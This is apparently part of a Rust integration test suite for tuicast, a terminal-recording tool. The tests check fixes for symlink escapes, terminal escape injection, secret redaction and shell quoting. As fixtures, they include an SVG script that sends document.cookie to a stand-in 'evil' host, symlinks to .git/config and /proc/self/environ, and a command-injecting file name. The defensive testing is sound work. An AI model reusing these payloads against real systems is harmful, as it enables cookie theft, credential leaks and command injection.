fn the_changes_picture_of_a_failing_png_golden_is_no_orphan() {
    let dir = Dir::new();
    dir.write("casts/pic.cast", v3_cast(6, 1, &[r#"[0.1, "o", "hi"]"#]));
    dir.write("casts/pic.toml", "[check]\nformats = [\"png\"]\n");
    dir.tuicast(["test", "--update"]).run().success();
    dir.write("casts/pic.cast", v3_cast(6, 1, &[r#"[0.1, "o", "ho"]"#]));
    let out = dir
        .tuicast(["test", "--remove-orphans"])
        .env("TUICAST_UPDATE", "new")
        .run()
        .fails_with(1);
    assert!(out.stdout().contains("end.png.diff.png"), "{out}");
    assert!(!out.stdout().contains("orphan"), "{out}");
    assert!(dir.join("snapshots/pic/end.png.diff.png").is_file());
}

/// Issue 23 (open from before): `env` keys like `"A=B"` were accepted (the program got
/// `A=B=C`), and NUL could not reach a program at all. Each is an error at its place.
#[test]
fn env_names_with_an_equals_sign_or_nul_are_refused_at_their_place() {
    let dir = Dir::new();
    for (env, expected) in [
        (
            r#"env = { "A=B" = "C" }"#,
            r#"s.toml:2:17: env: "A=B" is not a variable name"#,
        ),
        (
            r#"env = { "" = "C" }"#,
            r#"s.toml:2:14: env: "" is not a variable name"#,
        ),
        (
            r#"env = { "A\u0000" = "C" }"#,
            r#"env: "A\x00" is not a variable name"#,
        ),
        (
            r#"env = { A = "x\u0000" }"#,
            "env.A: a value cannot hold a NUL",
        ),
    ] {
        dir.write("s.toml", format!("shell = \"true\"\n{env}\n"));
        let out = dir
            .tuicast(["record", "s.toml", "-o", "s.cast"])
            .run()
            .fails_with(2);
        assert!(out.stderr().contains(expected), "{env}: {out}");
        assert!(!dir.join("s.cast").exists());
    }
}

/// Issue 23 (open from before): a symlinked `snapshots` folder, `snapshots = "../x"` or an
/// absolute path had goldens written (and read) outside the project. The configuration is
/// refused when read, naming the folder; nothing is written.
#[test]
fn a_snapshots_folder_outside_the_project_is_refused() {
    let outside = Dir::new();
    let away = outside.path().display().to_string();
    for (config, link) in [
        (Some("snapshots = \"../x\"\n".to_string()), false),
        (Some(format!("snapshots = {away:?}\n")), false),
        (None, true),
    ] {
        let dir = Dir::new();
        dir.write("casts/demo.cast", v3_cast(10, 2, &[r#"[0.1, "o", "hi"]"#]));
        if let Some(c) = &config {
            dir.write("tuicast.toml", c);
        }
        if link {
            std::os::unix::fs::symlink(outside.path(), dir.join("snapshots")).unwrap();
        }
        let out = dir.tuicast(["test", "--update"]).run().fails_with(2);
        assert!(
            out.stderr()
                .contains("is outside the project (after symbolic links)"),
            "{config:?}: {out}"
        );
        assert!(outside.files().is_empty(), "{:?}", outside.files());
        assert!(!dir.path().parent().unwrap().join("x").exists());
    }
}

/// Issue 23: `tuicast record -o X --scenario X -- CMD` wrote the scenario over the recording
/// it had just made. Refused before anything runs, the file untouched.
#[test]
fn a_scenario_written_over_its_own_recording_is_refused() {
    let dir = Dir::new();
    dir.write("x.cast", "mine\n");
    for scenario in ["x.cast", "./x.cast", "sub/../x.cast"] {
        std::fs::create_dir_all(dir.join("sub")).unwrap();
        let out = dir
            .tuicast([
                "record",
                "-o",
                "x.cast",
                "--scenario",
                scenario,
                "--",
                "true",
            ])
            .run()
            .fails_with(2);
        assert!(
            out.stderr()
                .contains("refusing to write the scenario over the cast x.cast"),
            "{scenario}: {out}"
        );
        assert_eq!(
            std::fs::read_to_string(dir.join("x.cast")).unwrap(),
            "mine\n"
        );
    }
}

/// Issue 23: `tuicast test --live` outside cargo kept its recordings in a shared
/// `$TMPDIR/tuicast-live`: a second user got "Permission denied", and a user who made it first
/// could swap in a forged recording that `--update` made the victim's golden. The folder is
/// `tuicast-live-UID`, mode 0700, and one of another user is refused, naming it.
#[test]
fn live_recordings_outside_cargo_are_kept_in_a_private_folder_of_this_user() {
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    let dir = Dir::new();
    dir.write(
        "casts/hi.toml",
        "command = [\"echo\", \"hi\"]\nsize = \"20x2\"\nsteps = [{ wait = \"hi\" }, { exit = 0 }]\n",
    );
    let tmp = Dir::new();
    let uid = std::fs::metadata("/proc/self").unwrap().uid();
    let live = tmp.join(format!("tuicast-live-{uid}"));
    let run = |dir: &Dir| {
        dir.tuicast(["test", "--live", "--update"])
            .env("TMPDIR", tmp.path())
            .env_remove("CARGO_TARGET_DIR")
            .env_remove("NEXTEST_RUN_ID")
            .run()
    };
    run(&dir).success();
    let meta = std::fs::symlink_metadata(&live).unwrap();
    assert!(meta.is_dir(), "{}", live.display());
    assert_eq!(meta.permissions().mode() & 0o777, 0o700);
    assert!(
        !tmp.join("tuicast-live").exists(),
        "no folder shared by users"
    );
    if uid != 0 {
        assert!(std::env::var_os("CI").is_none(), "root is needed under CI");
        return;
    }
    // Another user made it first: refused, naming the folder and its owner.
    std::fs::remove_dir_all(&live).unwrap();
    std::fs::create_dir(&live).unwrap();
    std::fs::set_permissions(&live, std::fs::Permissions::from_mode(0o777)).unwrap();
    std::os::unix::fs::chown(&live, Some(65534), Some(65534)).unwrap();
    let out = run(&dir);
    assert_ne!(out.code(), Some(0), "{out}");
    assert!(
        out.stdout().contains(&format!(
            "{}: belongs to another user (uid 65534), so it is not a private folder of this user",
            live.display()
        )),
        "{out}"
    );
}

/// Issue 23: a scenario's `command` or `cwd` reached the terminal raw in the error (OSC 52
/// writes the clipboard, OSC 0 the title), and a setup error left a header-only `.partial`
/// that the message pointed at as "the recording so far". Both are escaped; a recording whose
/// program never started leaves no file.
#[test]
fn a_scenarios_command_and_folder_are_escaped_and_a_setup_error_leaves_no_partial() {
    let dir = Dir::new();
    dir.write(
        "cmd.toml",
        "command = [\"no-such-\\u001b]52;c;aGk=\\u0007prog\"]\nsteps = [{ exit = 0 }]\n",
    );
    dir.write(
        "cwd.toml",
        "command = [\"true\"]\ncwd = \"x\\u001b]0;T\\u0007y\"\nsteps = [{ exit = 0 }]\n",
    );
    for (toml, said) in [
        (
            "cmd.toml",
            "command not found: no-such-\\e]52;c;aGk=\\x07prog",
        ),
        ("cwd.toml", "x\\e]0;T\\x07y does not exist"),
    ] {
        let out = dir
            .tuicast(["record", toml, "-o", "out.cast"])
            .run()
            .fails_with(2);
        assert!(out.stderr().contains(said), "{out}");
        assert!(
            !out.stderr().contains(['\x1b', '\x07']) && !out.stdout().contains(['\x1b', '\x07']),
            "{toml}: raw control characters: {out}"
        );
        assert!(!out.stderr().contains("recording so far"), "{out}");
        let left: Vec<String> = dir
            .files()
            .into_iter()
            .filter(|f| f.contains("out.cast"))
            .collect();
        assert!(left.is_empty(), "{toml}: {left:?}");
    }
}

/// The JSON object one `tuicast run` / `tuicast ask` printed.
fn json_of(out: &crate::util::Run) -> serde_json::Value {
    serde_json::from_str(out.stdout().trim()).unwrap_or_else(|e| panic!("{e}: {out}"))
}

/// Issue 41: any file named `tuicast-report.txt` made a folder tuicast's, so a committed
/// `tuicast-report/` with links `leak -> ../.git/config` and `environ -> /proc/self/environ`
/// was written into with its links kept (and the Action uploaded it). The marker proves the
/// folder only when it names that very folder, and a folder holding a link is never written.
#[test]
fn a_committed_report_folder_is_no_report_and_a_link_in_one_stops_the_write() {
    let dir = project_with_goldens();
    dir.write(".git/config", "[remote \"origin\"]\n\turl = secret\n");
    // What a pull request commits: the marker's text, even a proof line of its own.
    dir.write(
        "tuicast-report/tuicast-report.txt",
        "This folder is a tuicast report (tuicast test --report, TUICAST_REPORT).\n\
         tuicast replaces index.html, data/ and files/ here on every run.\nfolder: 2049:1234:0\n",
    );
    std::os::unix::fs::symlink("../.git/config", dir.join("tuicast-report/leak")).unwrap();
    std::os::unix::fs::symlink("/proc/self/environ", dir.join("tuicast-report/environ")).unwrap();
    let before = dir.files();
    for env in [false, true] {
        let run = if env {
            dir.tuicast(["test"])
                .env("TUICAST_REPORT", "tuicast-report")
        } else {
            dir.tuicast(["test", "--report", "tuicast-report"])
        };
        let out = run.run().fails_with(2);
        assert!(
            out.stderr()
                .contains("its tuicast-report.txt was not written in this folder by tuicast"),
            "{out}"
        );
        assert_eq!(
            dir.files(),
            before,
            "nothing written into the planted folder"
        );
    }
    // A folder tuicast made is its own again, run after run; a link put into it stops it.
    dir.tuicast(["test", "--report", "rep"]).run().success();
    dir.tuicast(["test", "--report", "rep"]).run().success();
    let marker = std::fs::read_to_string(dir.join("rep/tuicast-report.txt")).unwrap();
    assert!(
        marker.lines().last().unwrap().starts_with("folder: "),
        "{marker}"
    );
    std::os::unix::fs::symlink("../../.git/config", dir.join("rep/data/leak")).unwrap();
    for run in [
        dir.tuicast(["test", "--report", "rep"]),
        dir.tuicast(["test"]).env("TUICAST_REPORT", "rep"),
    ] {
        let out = run.run().fails_with(2);
        assert!(
            out.stderr().contains("holds a symbolic link, data/leak"),
            "{out}"
        );
    }
    // A copy of a report (what a download is) names another folder: refused too.
    std::fs::remove_file(dir.join("rep/data/leak")).unwrap();
    let copy = std::process::Command::new("cp")
        .args(["-r", "rep", "copied"])
        .current_dir(dir.path())
        .status()
        .unwrap();
    assert!(copy.success());
    let out = dir
        .tuicast(["test", "--report", "copied"])
        .run()
        .fails_with(2);
    assert!(
        out.stderr().contains("was not written in this folder"),
        "{out}"
    );
}

/// Issue 41: every `-o FILE` renamed a new file over what was there, so a device, FIFO or
/// symlink became a regular file (as root, `--format svg -o /dev/null` replaced the machine's
/// `/dev/null`). A FIFO (and a link to one, as `/dev/stdout` is) is written through and stays
/// a FIFO; a link to a file is refused and kept. (A FIFO stands in for `/dev/null`: were the
/// guard to break, this test must not be what replaces the machine's device.)
#[test]
fn output_files_write_through_fifos_and_refuse_links_never_replacing_either() {
    use std::os::unix::fs::FileTypeExt;
    let dir = project_with_goldens();
    let fifo = dir.join("out.fifo");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    std::os::unix::fs::symlink("out.fifo", dir.join("stdout-link")).unwrap();
    let read_fifo =
        |path: std::path::PathBuf| std::thread::spawn(move || std::fs::read(path).unwrap());
    for (args, target) in [
        (
            vec!["replay", "casts/demo.cast", "-o", "out.fifo"],
            "out.fifo",
        ),
        (
            vec![
                "replay",
                "casts/demo.cast",
                "--format",
                "json",
                "-o",
                "stdout-link",
            ],
            "stdout-link",
        ),
        (
            vec!["convert", "casts/demo.cast", "-o", "out.fifo"],
            "out.fifo",
        ),
        (
            vec![
                "replay",
                "casts/demo.cast",
                "--format",
                "svg",
                "-o",
                "out.fifo",
            ],
            "out.fifo",
        ),
    ] {
        let reader = read_fifo(dir.join(target));
        dir.tuicast(&args).run().success();
        let got = reader.join().unwrap();
        assert!(
            String::from_utf8_lossy(&got).contains("hi"),
            "{args:?}: {}",
            String::from_utf8_lossy(&got)
        );
        let kind = std::fs::symlink_metadata(&fifo).unwrap().file_type();
        assert!(kind.is_fifo(), "{args:?}: the FIFO is still a FIFO");
        assert!(std::fs::symlink_metadata(dir.join("stdout-link"))
            .unwrap()
            .file_type()
            .is_symlink());
    }
    // A link to a file: refused, the link and its file kept.
    dir.write("target.txt", "mine\n");
    std::os::unix::fs::symlink("target.txt", dir.join("link.txt")).unwrap();
    let out = dir
        .tuicast(["replay", "casts/demo.cast", "-o", "link.txt"])
        .run()
        .fails_with(2);
    assert!(
        out.stderr().contains("is a symbolic link to a file"),
        "{out}"
    );
    assert_eq!(
        std::fs::read_to_string(dir.join("target.txt")).unwrap(),
        "mine\n"
    );
    assert!(std::fs::symlink_metadata(dir.join("link.txt"))
        .unwrap()
        .file_type()
        .is_symlink());
    // A recording is renamed into place: a FIFO there is refused, not replaced.
    dir.write("s.toml", "command = [\"true\"]\nsteps = [{ exit = 0 }]\n");
    let out = dir
        .tuicast(["record", "s.toml", "-o", "out.fifo"])
        .run()
        .fails_with(2);
    assert!(
        out.stderr()
            .contains("a recording is written to a regular file"),
        "{out}"
    );
    assert!(std::fs::symlink_metadata(&fifo)
        .unwrap()
        .file_type()
        .is_fifo());
}

/// Issue 41: a committed SVG screenshot with a `<script>` was copied verbatim into the
/// public report. It goes in only after the check `accept --from` applies.
#[test]
fn a_committed_svg_with_a_script_is_not_copied_into_the_report() {
    let dir = project_with_goldens();
    dir.write(
        "tuicast.toml",
        "[[screenshot]]\ncast = \"casts/demo.cast\"\noutput = \"docs/demo.svg\"\n",
    );
    dir.tuicast(["screenshots"]).run().success();
    let svg = std::fs::read_to_string(dir.join("docs/demo.svg")).unwrap();
    let rep = dir.join("rep");
    let files = |rep: &std::path::Path| -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(rep.join("files"))
            .map(|d| {
                d.map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
                    .collect()
            })
            .unwrap_or_default();
        names.sort();
        names
    };
    // A stale but harmless SVG: the committed image is in the report.
    dir.write("docs/demo.svg", svg.replacen("hi", "ho", 1));
    dir.tuicast(["test", "--report", "rep"])
        .env("CI", "true")
        .run()
        .fails_with(1);
    let names = files(&rep);
    assert!(
        names.iter().any(|n| n.ends_with("-expected.svg")),
        "{names:?}"
    );
    // With a script: the new image only.
    dir.write(
        "docs/demo.svg",
        svg.replacen(
            "</svg>",
            "<script>fetch('https://evil/'+document.cookie)</script></svg>",
            1,
        ),
    );
    dir.tuicast(["test", "--report", "rep"])
        .env("CI", "true")
        .run()
        .fails_with(1);
    let names = files(&rep);
    assert!(
        !names.iter().any(|n| n.ends_with("-expected.svg")),
        "{names:?}"
    );
    assert!(
        names.iter().any(|n| n.ends_with("-actual.svg")),
        "{names:?}"
    );
    for n in &names {
        let bytes = std::fs::read_to_string(rep.join("files").join(n)).unwrap_or_default();
        assert!(!bytes.contains("<script"), "{n}");
    }
}

/// Issue 41: `run` and `ask` left part of a `--secret` unstarred when the output limit or the
/// timeout cut inside it (19 of 40 characters in the JSON). A cut stream's tail that could be
/// the start of a secret is starred whole.
#[test]
fn a_secret_cut_by_the_output_limit_or_the_timeout_is_starred_whole() {
    let value = "0123456789abcdefghijklmnopqrstuvwxyzABCD";
    assert_eq!(value.len(), 40);
    let dir = Dir::new();
    let stars = "*".repeat(19);
    for (limits, script, ended) in [
        (
            ["--max-output", "21"],
            "printf 'x=%s\\n' \"$TUICAST_SECRET_CUT\"",
            "max-output",
        ),
        (
            ["--timeout", "1s"],
            "printf 'x=%.19s' \"$TUICAST_SECRET_CUT\"; exec sleep 30",
            "timeout",
        ),
    ] {
        for sub in ["run", "ask"] {
            let mut args = vec![sub];
            if sub == "ask" {
                args.extend(["--prompt", "q"]);
            }
            args.extend(limits);
            args.extend(["--secret", "TUICAST_SECRET_CUT", "--", "sh", "-c", script]);
            let out = dir
                .tuicast(&args)
                .env("TUICAST_SECRET_CUT", value)
                .run()
                .fails_with(1);
            let json = json_of(&out);
            assert_eq!(json["ended_by"], ended, "{out}");
            let field = if sub == "ask" { "answer" } else { "stdout" };
            assert_eq!(json[field], format!("x={stars}"), "{sub} {ended}: {out}");
            assert!(!out.stdout().contains("0123456789"), "{out}");
        }
    }
}

/// Issue 41: a child that calls `setsid` outlived `tuicast run` (only the process group was
/// killed). The run sweeps what escaped its group as a recording does: by its private HOME.
#[test]
fn run_leaves_no_process_that_escaped_its_group_behind() {
    let dir = Dir::new();
    let script = "setsid sh -c 'echo $$ > escaped.pid; exec sleep 300' \
                  </dev/null >/dev/null 2>&1 & \
                  while [ ! -s escaped.pid ]; do sleep 0.05; done; echo started";
    let out = dir
        .tuicast(["run", "--", "sh", "-c", script])
        .run()
        .success();
    assert_eq!(json_of(&out)["stdout"], "started\n", "{out}");
    let pid: u32 = std::fs::read_to_string(dir.join("escaped.pid"))
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    let alive = |pid: u32| {
        std::fs::read_to_string(format!("/proc/{pid}/stat"))
            .ok()
            .and_then(|s| s.rfind(')').map(|i| s[i + 2..].starts_with(|c| c != 'Z')))
            .unwrap_or(false)
    };
    let until = std::time::Instant::now() + std::time::Duration::from_secs(2);
    while alive(pid) && std::time::Instant::now() < until {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    if alive(pid) {
        let _ = std::process::Command::new("kill")
            .arg("-9")
            .arg(pid.to_string())
            .status();
        panic!("the setsid child {pid} outlived tuicast run");
    }
}

/// Issue 41: `run --stdin FIFO` hung past `--timeout` (opening a FIFO waits for a writer).
#[test]
fn run_stdin_from_a_fifo_never_blocks_past_the_timeout() {
    let dir = Dir::new();
    let made = std::process::Command::new("mkfifo")
        .arg(dir.join("in.fifo"))
        .status()
        .unwrap();
    assert!(made.success());
    let started = std::time::Instant::now();
    let out = dir
        .tuicast(["run", "--timeout", "1s", "--stdin", "in.fifo", "--", "cat"])
        .run()
        .fails_with(2);
    assert!(
        started.elapsed() < std::time::Duration::from_secs(10),
        "{:?}",
        started.elapsed()
    );
    assert!(
        json_of(&out)["error"]
            .as_str()
            .unwrap()
            .contains("nothing opened it for writing within the timeout of 1000 ms"),
        "{out}"
    );
    // With a writer, the FIFO is read.
    let fifo = dir.join("in.fifo");
    let writer = std::thread::spawn(move || std::fs::write(fifo, "fed\n").unwrap());
    let out = dir
        .tuicast(["run", "--timeout", "10s", "--stdin", "in.fifo", "--", "cat"])
        .run()
        .success();
    writer.join().unwrap();
    assert_eq!(json_of(&out)["stdout"], "fed\n", "{out}");
}

/// Issue 41: a question starting with `-` became an option of the AI CLI under `ask … {}`
/// (`--help`, `-o FILE`). It is refused unless an argument `--` before `{}` ends the options.
#[test]
fn ask_never_lets_the_question_become_an_option() {
    let dir = Dir::new();
    let each = "for a; do echo \"[$a]\"; done";
    let out = dir
        .tuicast([
            "ask",
            "--prompt=--output=/etc/passwd",
            "--",
            "sh",
            "-c",
            each,
            "sh",
            "{}",
        ])
        .run()
        .fails_with(2);
    assert!(
        json_of(&out)["error"]
            .as_str()
            .unwrap()
            .contains("the question starts with '-'"),
        "{out}"
    );
    let out = dir
        .tuicast([
            "ask",
            "--prompt=--version",
            "--",
            "sh",
            "-c",
            each,
            "sh",
            "--",
            "{}",
        ])
        .run()
        .success();
    assert_eq!(json_of(&out)["answer"], "[--]\n[--version]", "{out}");
    // On standard input it is data whatever it starts with.
    let out = dir
        .tuicast(["ask", "--prompt=-rf", "--", "cat"])
        .run()
        .success();
    assert_eq!(json_of(&out)["answer"], "-rf", "{out}");
}

/// Issue 41: the commands tuicast suggests (`record it with …`) were not shell-quoted, so a
/// hostile file name ran code in the maintainer's shell when pasted. Pasted into bash, the
/// suggestion is the file's name, one argument, and runs nothing.
#[test]
fn suggested_commands_are_quoted_for_the_shell() {
    let dir = Dir::new();
    let name = "x$(touch pwned);y";
    dir.write(
        format!("casts/{name}.toml"),
        "command = [\"true\"]\nsteps = [{ snapshot = \"one\" }, { exit = 0 }]\n",
    );
    // Exit status 2: a scenario with no cast that this run cannot record is bad input.
    let out = dir.tuicast(["test", "--replay"]).run().fails_with(2);
    let text = format!("{}{}", out.stdout(), out.stderr());
    let suggested = text
        .split("`tuicast record ")
        .nth(1)
        .and_then(|rest| rest.split('`').next())
        .unwrap_or_else(|| panic!("no suggestion: {text}"));
    assert_eq!(suggested, format!("'casts/{name}.toml'"), "{text}");
    let pasted = std::process::Command::new("bash")
        .arg("-c")
        .arg(format!("printf '%s\\n' {suggested}"))
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&pasted.stdout),
        format!("casts/{name}.toml\n")
    );
    assert!(!dir.join("pwned").exists(), "pasting it ran code");
}

/// Issue 41: `--message-format junit` printed nothing (not XML) when `tuicast.toml` did not
/// parse. The document is valid with one error case naming the file, line and column.
#[test]
fn junit_output_is_a_document_even_when_the_configuration_is_bad() {
    let dir = Dir::new();
    dir.write("tuicast.toml", "casts = \"casts\"\nbad\n");
    let out = dir
        .tuicast(["test", "--message-format", "junit"])
        .run()
        .fails_with(2);
    let xml = out.stdout();
    assert!(xml.starts_with("<?xml"), "{out}");
    assert!(xml.contains("errors=\"1\""), "{out}");
    assert!(
        xml.contains("<error message=\"") && xml.contains("tuicast.toml:2:4:"),
        "{out}"
    );
    assert!(xml.trim_end().ends_with("</testsuites>"), "{out}");
    assert!(out.stderr().contains("tuicast.toml:2:4"), "{out}");
}

/// Issue 41: a linked `snapshots/.screenshots` had tuicast make the pending image's folders
/// outside the project before the write was refused. It is refused before any folder is made.
#[test]
fn a_linked_screenshots_folder_gets_no_folder_made_outside() {
    let dir = project_with_goldens();
    let outside = Dir::new();
    dir.write(
        "tuicast.toml",
        "[[screenshot]]\ncast = \"casts/demo.cast\"\noutput = \"docs/deep/demo.svg\"\n",
    );
    std::os::unix::fs::symlink(outside.path(), dir.join("snapshots/.screenshots")).unwrap();
    let out = dir.tuicast(["test"]).run();
    assert_ne!(out.code(), Some(0), "{out}");
    let made: Vec<_> = std::fs::read_dir(outside.path()).unwrap().collect();
    assert!(made.is_empty(), "made outside the project: {made:?}\n{out}");
}

/// Issue 41: what tuicast writes by itself (goldens under `--update`, `.new` files) is at a
/// path the repository chose: a `.new` file committed as a link to a device or a FIFO is neither
/// written through (a link to `/dev/tty` would reach the terminal) nor replaced. A FIFO in
/// the project stands in for the device; a reader opens it late so that a broken guard fails
/// this test instead of hanging it.
#[test]
fn a_pending_file_linked_to_a_fifo_is_neither_written_through_nor_replaced() {
    use std::os::unix::fs::{FileTypeExt, OpenOptionsExt};
    let dir = project_with_goldens();
    let fifo = dir.join("dev.fifo");
    assert!(std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    // A changed golden, so that the run writes its `.new`: committed as a link.
    dir.write("snapshots/demo/end.txt", "changed\n");
    let golden = dir.join("snapshots/demo/end.txt.new");
    std::os::unix::fs::symlink("../../dev.fifo", &golden).unwrap();
    let late = fifo.clone();
    let unblock = std::thread::spawn(move || {
        std::thread::sleep(std::time::Duration::from_secs(20));
        let file = std::fs::OpenOptions::new()
            .read(true)
            .custom_flags(nix::libc::O_NONBLOCK)
            .open(late);
        drop(file);
    });
    let started = std::time::Instant::now();
    let out = dir.tuicast(["test"]).env("TUICAST_UPDATE", "new").run();
    assert!(
        started.elapsed() < std::time::Duration::from_secs(15),
        "it waited for the FIFO: {out}"
    );
    assert_ne!(out.code(), Some(0), "{out}");
    assert!(std::fs::symlink_metadata(&golden)
        .unwrap()
        .file_type()
        .is_symlink());
    assert!(std::fs::symlink_metadata(&fifo)
        .unwrap()
        .file_type()
        .is_fifo());
    drop(unblock);
}

/// Issue 40 point 1: a filter of `tuicast test` that selects no test is bad input naming the
/// filter (a typo would otherwise pass, having checked nothing); one that selects some runs.
#[test]
fn a_filter_that_selects_no_test_is_an_error() {
    let dir = project_with_goldens();
    let out = dir.tuicast(["test", "-k", "greted"]).run().fails_with(2);
    assert!(
        out.stderr().contains("error: no test of ")
            && out.stderr().contains("matches -k \"greted\""),
        "{out}"
    );
    let out = dir.tuicast(["test", "-k", "greeted"]).run().success();
    assert!(out.stdout().contains("demo::greeted"), "{out}");
}
